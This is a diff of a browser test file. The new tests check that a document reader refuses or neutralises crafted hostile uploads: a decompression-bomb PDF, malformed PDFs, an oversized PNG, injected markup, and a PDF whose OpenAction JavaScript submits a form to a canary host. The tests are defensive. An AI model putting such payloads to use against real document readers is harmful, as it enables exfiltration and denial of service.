@@ -10,7 +10,7 @@ from playwright.sync_api import BrowserContext, FilePayload, Page, Worker
 
 from scripts.serve import Host
 from tests.axe import violations
-from tests.browser import careful, samples
+from tests.browser import careful, harmful, samples
 from tests.browser.channels import PAGE, WORKER, Channel
 from tests.browser.egress import TRY_ALL, Hosts
 from tests.browser.looks import CUT_OFF
@@ -168,6 +168,26 @@ def test_what_cannot_be_read_gets_one_plain_sentence(reader: Reader) -> None:
     reader.page.get_by_text("too large to read here").wait_for()
 
 
+DENIED = f"We deny this request for ketamine. {harmful.MARKUP}"
+PROGRAM = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://127.0.0.2/canary'\\))>>"
+HARMFUL = (
+    # 65 kilobytes that unpack to 64 megabytes of nothing.
+    ("application/pdf", harmful.pdf(harmful.unpacking_to(64)), "too blurred or too dark"),
+    ("application/pdf", harmful.pdf(harmful.words("hi"), kids="2 0 R"), "damaged or is no PDF"),
+    ("application/pdf", harmful.pdf(harmful.words("hi"), box="0 0 10000000 10000000"), "too blurred or too dark"),
+    ("image/png", harmful.png(40_000), "could not be read"),
+    ("application/pdf", harmful.pdf(harmful.words(DENIED), catalog=PROGRAM), "1 page read"),
+)
+
+
+def test_a_paper_that_was_made_to_do_harm_is_refused_with_a_sentence_or_is_words_alone(reader: Reader, ours: Host, other: Host) -> None:
+    for kind, data, said in HARMFUL:
+        assert said in reader.read("file", kind, data)
+    assert reader.texts() == [f"{DENIED}\n"]
+    assert "owned" not in reader.page.title()
+    assert [*ours.log, *other.log, *reader.said] == []
+
+
 def test_after_the_lock_neither_the_reader_nor_its_workers_reach_anybody(reader: Reader, both: Hosts) -> None:
     reader.page.evaluate(WORKERS_STAY)
     with reader.page.expect_event("worker") as started:
@@ -185,7 +205,7 @@ def test_the_text_is_handed_to_the_builder_in_the_other_tab_and_asked_what_it_is
 ) -> None:
     visit.open()
     ours.forget()
-    reader.read("letter.pdf", "application/pdf", samples.pdf_of([samples.LETTER]))
+    reader.read("letter.pdf", "application/pdf", samples.pdf_of([f"{harmful.MARKUP}\n{samples.LETTER}"]))
     reader.page.locator("#hand").click()
     reader.page.get_by_text("The letter builder has the text").wait_for()
     arrived = visit.page.locator("[data-take-paper='denial.text']")
@@ -194,7 +214,10 @@ def test_the_text_is_handed_to_the_builder_in_the_other_tab_and_asked_what_it_is
     found = violations(visit.page, FORM)
     arrived.click()
     visit.page.locator(".find__use").first.wait_for()
-    assert "HPX204918837" in visit.page.locator("[name='denial.text']").input_value()
+    text = visit.page.locator("[name='denial.text']").input_value()
+    assert "HPX204918837" in text
+    assert harmful.MARKUP in text
+    assert "owned" not in visit.page.title()
     visit.page.locator(".find").first.scroll_into_view_if_needed()
     visit.page.locator(".sight__mark").first.wait_for(timeout=PATIENCE_MS)
     assert found + violations(visit.page, FORM) == []
